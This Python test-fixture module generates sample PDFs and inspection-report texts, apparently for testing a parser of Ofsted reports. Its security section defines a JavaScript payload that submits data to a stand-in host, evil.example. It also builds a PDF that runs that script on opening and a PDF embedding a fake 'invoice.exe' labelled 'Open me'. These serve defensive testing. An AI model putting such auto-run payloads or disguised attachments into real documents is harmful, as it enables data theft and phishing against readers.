"""Small documents made by the tests themselves, each named for the case it covers."""

from __future__ import annotations

from fpdf import FPDF


def text_pdf(pages: list[str], *, owner_password: str | None = None, user_password: str | None = None) -> bytes:
    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 6, text)
    if owner_password or user_password:
        pdf.set_encryption(owner_password=owner_password or "owner", user_password=user_password or "")
    return bytes(pdf.output())


def encrypted_pdf() -> bytes:
    """Opens only with a password."""
    return text_pdf(["Confidential"], user_password="secret")


def image_only_pdf(pages: int = 2) -> bytes:
    """Pages with drawings but no text layer, like a scan."""
    pdf = FPDF()
    for _ in range(pages):
        pdf.add_page()
        pdf.set_fill_color(120, 120, 120)
        pdf.rect(20, 20, 170, 250, style="F")
    return bytes(pdf.output())


def many_pages_pdf(count: int) -> bytes:
    pdf = FPDF()
    pdf.set_font("Helvetica", size=8)
    for number in range(count):
        pdf.add_page()
        pdf.cell(0, 5, f"Page {number + 1}")
    return bytes(pdf.output())


def truncated(data: bytes, keep: float = 0.4) -> bytes:
    return data[: int(len(data) * keep)]


HTML_ERROR_PAGE = b"<!DOCTYPE html><html><head><title>Error</title></head><body><h1>404 Not Found</h1></body></html>"

SCHOOL_REPORT_TEXT = """School inspection report
Inspection of Hilltop Primary School
Unique reference number: 100000
Inspection dates: 3 and 4 May 2023
Overall effectiveness: Good
The quality of education: Good
Behaviour and attitudes: Good
Personal development: Good
Leadership and management: Good
Early years provision: Good
What is it like to attend this school?
Pupils enjoy coming to this school.
"""


# Hostile PDFs (tests/security): active content a viewer might run or offer to open.
JS_PAYLOAD = "app.alert('pwned'); this.submitForm('https://evil.example/steal');"


def pdf_with_javascript(lines: list[str]) -> bytes:
    """A text PDF whose catalogue runs JavaScript on opening (/OpenAction and the /JavaScript name tree).
    Written object by object: fpdf2 cannot add document JavaScript."""
    content = "BT /F1 11 Tf 14 TL 60 780 Td " + " ".join(f"({_pdf_string(line)}) Tj T*" for line in lines) + " ET"
    action = f"<< /Type /Action /S /JavaScript /JS ({_pdf_string(JS_PAYLOAD)}) >>"
    return _raw_pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(run) 5 0 R] >> >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            " /Resources << /Font << /F1 6 0 R >> >> >>",
            f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
            action,
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_with_embedded_file(lines: list[str], payload: bytes = b"MZ\x90\x00 not really a program") -> bytes:
    """A text PDF carrying an attached file (an 'invoice.exe') in its embedded-files name tree."""
    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    pdf.add_page()
    pdf.multi_cell(0, 6, "\n".join(lines))
    pdf.embed_file(basename="invoice.exe", bytes=payload, desc="Open me")
    return bytes(pdf.output())


def _pdf_string(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _raw_pdf(objects: list[str]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


# A 2025 ILACS report as plain text, up to its list of what needs to improve: the items are the test's own.
ILACS_2025_HEAD = """Inspection of Bury local authority
children’s services
Inspection dates: 9 to 20 June 2025
Lead inspector: Pat Example, His Majesty’s Inspector
Judgement Grade
The impact of leaders on social work
practice with children and families
Good
The experiences and progress of
children who need help and protection
Requires improvement to be good
The experiences and progress of
children in care
Outstanding
The experiences and progress of care
leavers
Good
Overall effectiveness Good
Summary prose.
What needs to improve?
"""


# A 2013–18 single inspection framework report as plain text, of a council replaced in 2019 that has no row of
# its own in Ofsted's lookup. Dates, grades and wording are the test's own.
SIF_FORMER_COUNCIL = """Dorset County Council
Inspection of services for children in need of help and
protection, children looked after and care leavers
and
Review of the effectiveness of the Local Safeguarding Children
Board
Inspection date: 6 June 2016 – 28 June 2016
Report published: 2 September 2016
The overall judgement is that children’s services require
improvement
1. Children who need help and protection Requires
improvement
2. Children looked after and achieving
permanence
Requires improvement
2.1 Adoption performance Good
2.2 Experiences and progress of care leavers Requires improvement
3. Leadership, management and governance Requires improvement
Recommendations
1. Make sure every child in need has a plan that says who will do what, and by when.
2. Check that supervision helps social workers to think about each child.
The local authority has the following strengths:
3. Foster carers are well supported.
The Local Safeguarding Children Board (LSCB)
The Local Safeguarding Children Board requires improvement
Recommendations
4. The board should check that its partners follow its procedures.
Information about this inspection
Lead inspector: Pat Example HMI
"""
